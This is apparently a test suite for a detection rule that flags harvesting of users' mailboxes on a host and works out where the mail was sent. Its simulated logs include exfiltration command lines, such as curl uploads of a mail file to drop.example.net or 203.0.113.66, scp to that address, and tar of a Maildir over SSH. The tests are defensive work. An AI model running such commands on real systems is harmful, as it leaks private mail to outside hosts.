import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  type Settings,
  scanLog,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Whose work a read of a store is, and where the mail went, on hosts that record more or less. */
const OUT = '203.0.113.66';
const CLIENT = '198.51.100.44';

interface Facts {
  readonly log: HostLog;
  readonly mine: Delivered;
  readonly other: Delivered;
}
interface Options {
  readonly files?: boolean;
  readonly network?: boolean;
  /** No record shows the delivery agent writing into the store. */
  readonly unseen?: boolean;
  readonly settings?: Settings;
}

async function told(act: (facts: Facts) => void, options: Options = {}): Promise<readonly Alert[]> {
  const { files = true, network = true, unseen = false, settings = {} } = options;
  const log = new HostLog({ files, network });
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  if (network) log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const facts = { log, mine: log.deliver({ unseen }), other: log.deliver({ to: 'buyer', unseen }) };
  log.wait(MINUTE);
  act(facts);
  return (await scanLog(log, { settings })).filter(alert => alert.analytic === 'AN1310');
}
const severities = async (act: (facts: Facts) => void, options?: Options): Promise<readonly string[]> =>
  (await told(act, options)).map(alert => alert.severity);

test("copies that stay on the host are the work of the system's jobs, and of a copy of a whole home", async () => {
  const daily = ({ log, other }: Facts): void => {
    const job = log.cron('backup', 'test -x x').run('/etc/cron.daily/keep', { by: '/bin/sh' });
    job.run(`/bin/cp ${other.path} /var/backups/.m`).read(other.path).write('/var/backups/.m');
  };
  assert.deepEqual(await severities(daily), []);
  const home =
    (folder: string) =>
    ({ log, mine }: Facts) => {
      const tar = log.cron('clerk', 'x').run(`/bin/tar cf .b/home.tar ${folder}`);
      tar.read(mine.path).write('/home/clerk/.b/home.tar');
    };
  assert.deepEqual(await severities(home('/home/clerk')), []);
  assert.deepEqual(await severities(home('/home/clerk/Maildir')), ['informational']);
});

test('a folder far above the store is one by whichever argument, and an empty word is none', async () => {
  const takes = (words: readonly string[], box: (facts: Facts) => string) => (facts: Facts) =>
    void facts.log.cron('clerk', 'x').run(words).read(box(facts)).connect(OUT, 873);
  const BROAD = 'a scheduled copy of a whole home by its owner';
  const [first] = await told(takes(['/usr/bin/rsync', '/home/clerk', 'out:'], facts => facts.mine.path));
  assert.ok(factorsOf(first as Alert).includes(BROAD));
  const spool = '/var/mail/clerk';
  const [empty] = await told(takes(['/bin/grep', '', spool], () => spool));
  assert.ok(!factorsOf(empty as Alert).includes(BROAD));
  assert.equal(empty?.severity, 'medium');
});

test('where no connection is recorded, a script of the person that reads is told, and neither a program nor a package', async () => {
  const reads =
    (path: string, by?: string) =>
    ({ log, mine }: Facts) =>
      void log
        .shell('clerk')
        .run(path, by === undefined ? {} : { by })
        .read(mine.path);
  const blind = { network: false };
  assert.deepEqual(await severities(reads('/home/clerk/x.py', '/usr/bin/python3'), blind), ['informational']);
  assert.deepEqual(await severities(reads('/home/clerk/.cargo/bin/mailer'), blind), [], 'a mail program of the person');
  assert.deepEqual(await severities(reads('/usr/bin/mail-report', '/usr/bin/python3'), blind), [], 'of a package');
  const called = ({ log, mine }: Facts): void => {
    const script = log.shell('clerk').run('/home/clerk/x.sh', { by: '/bin/sh' });
    script.run('/usr/bin/mail-report', { by: '/usr/bin/python3' }).read(mine.path);
  };
  assert.deepEqual(await severities(called, blind), [], 'whoever calls it');
});

test('a harvest of one session is one story, of another session another', async () => {
  const reads = (by: Process, { other }: Facts): void => void by.run(`/bin/cat ${other.path}`).read(other.path);
  for (const [kind, session] of [
    ['interactive', (log: HostLog) => log.shell('clerk')],
    ['detached', (log: HostLog) => log.shell('clerk').run('/usr/bin/setsid -f x')],
    ['unattended', (log: HostLog) => log.remote('clerk', 'x', CLIENT)],
  ] as const) {
    const alerts = await told(facts => {
      const first = session(facts.log);
      reads(first, facts);
      reads(first, facts);
      reads(session(facts.log), facts);
    });
    assert.equal(alerts.length, 2, kind);
    for (const alert of alerts) assert.ok(alert.story.includes(`(${kind})`), alert.story);
  }
});

test('a reader of whom nothing tells the name is a number', async () => {
  const [alert] = await told(({ log, other }) => {
    const who = { uid: 4242, auid: 4242, ses: 77, tty: 'pts5' };
    new Process(log.records, 5000, 1, '/bin/bash', who).run(`/bin/cat ${other.path}`).read(other.path);
  });
  assert.deepEqual(valuesOf(alert as Alert, 'user'), ['uid 4242']);
  assert.ok(alert?.wouldChange.some(change => change.what.includes('(user: uid 4242, executable: /bin/cat)')));
});

test('where it is known to have gone is looked at next, else what the session sent', async () => {
  const pipes =
    (mail: string) =>
    ({ log, mine }: Facts) => {
      const [cat] = log.shell('clerk').pipeline(`/bin/cat ${mine.path}`, mail);
      cat?.read(mine.path);
    };
  const next = async (mail: string): Promise<string | undefined> => (await told(pipes(mail)))[0]?.next.at(-1);
  assert.equal(await next('/usr/bin/mail root'), 'Look at what this session sent out next.');
  assert.equal(await next('/usr/bin/mail x@example.net'), 'Look for other traffic to x@example.net.');
});

test('whom or what the arguments name is where it went', async () => {
  for (const [line, destination] of [
    ['/usr/bin/curl https://drop.example.net/x -T -', 'https://drop.example.net/x'],
    ['/usr/bin/curl -u me@here https://drop.example.net/x -T -', 'https://drop.example.net/x'],
    ['/usr/bin/mail x@example.net', 'x@example.net'],
    ['/usr/sbin/sendmail -fclerk@example.org x@example.net', 'x@example.net'],
    ['/usr/bin/swaks --attach @/tmp/a@b --to x@example.net', 'x@example.net'],
    ['/usr/bin/rsync drop.example.net:in -', 'drop.example.net:in'],
  ] as const) {
    const [alert] = await told(({ log, mine }) => {
      const [cat] = log.shell('clerk').pipeline(`/bin/cat ${mine.path}`, line);
      cat?.read(mine.path);
    });
    assert.deepEqual(valuesOf(alert as Alert, 'address'), [destination], line);
  }
});

test('the same process that reads and connects stays what it is where files are not recorded', async () => {
  const curl = ({ log, mine }: Facts): void =>
    void log.shell('clerk').run(`/usr/bin/curl -T ${mine.path} http://${OUT}/x`).connect(OUT, 80);
  assert.deepEqual(await severities(curl, { files: false }), ['medium']);
});

/** tar over SSH, by which the archive goes to the client. */
const remote = ({ log, mine }: Facts): Process => {
  const shell = log.remote('clerk', 'x', CLIENT);
  shell.run('/bin/tar c Maildir').read(mine.path);
  return shell;
};
const sentTo = async (act: (facts: Facts) => void, options?: Options): Promise<readonly string[] | undefined> => {
  const [alert] = await told(act, options);
  return alert === undefined ? undefined : valuesOf(alert, 'address');
};

test('files are known to be recorded by any file that was seen written', async () => {
  assert.deepEqual(await severities(facts => void remote(facts), { unseen: true }), ['medium']);
});

test('what is printed over SSH goes to the client, unless it is seen to go elsewhere', async () => {
  assert.deepEqual(await sentTo(facts => void remote(facts)), [CLIENT]);
  const pipe = ({ log, mine }: Facts): void => {
    const [tar] = log.remote('clerk', 'x', CLIENT).pipeline('/bin/tar c Maildir', '/usr/bin/mail root');
    tar?.read(mine.path);
  };
  assert.deepEqual(await sentTo(pipe), [], 'handed to a sender');
  const itself = ({ log, mine }: Facts): void =>
    void log.remote('clerk', 'x', CLIENT).run('/home/clerk/.cache/x').read(mine.path).connect(OUT, 443);
  assert.deepEqual(await sentTo(itself), [`${OUT}:443`], 'it has a connection of its own');
  const later = (facts: Facts): void => {
    const shell = remote(facts);
    facts.log.wait(MINUTE);
    shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`);
  };
  assert.deepEqual(await sentTo(later, { files: false }), [CLIENT], 'only time joins what came later');
});

test('only what sshd started prints to a client: by the session, or by what stands above it', async () => {
  const desktop = ({ log, mine }: Facts): void => void log.desktop('clerk').run('/bin/tar c Maildir').read(mine.path);
  assert.deepEqual(await severities(desktop), [], 'nobody is at the other end');
  const who = { uid: 1003, auid: 1003, ses: 77, tty: '(none)' };
  const above =
    (daemon: string) =>
    ({ log, mine }: Facts) => {
      const sshd = new Process(log.records, 5000, 1, daemon, { ...who, uid: 0 }).read('/etc/localtime');
      sshd.run(['/bin/bash', '-c', 'x'], { who, cwd: '/home/clerk' }).run('/bin/tar c Maildir').read(mine.path);
    };
  for (const daemon of ['/usr/sbin/sshd', '/usr/lib/openssh/sshd-session'])
    assert.deepEqual(await severities(above(daemon)), ['medium'], daemon);
  assert.deepEqual(await severities(above('/home/clerk/sshd')), [], 'a program of a home');
});
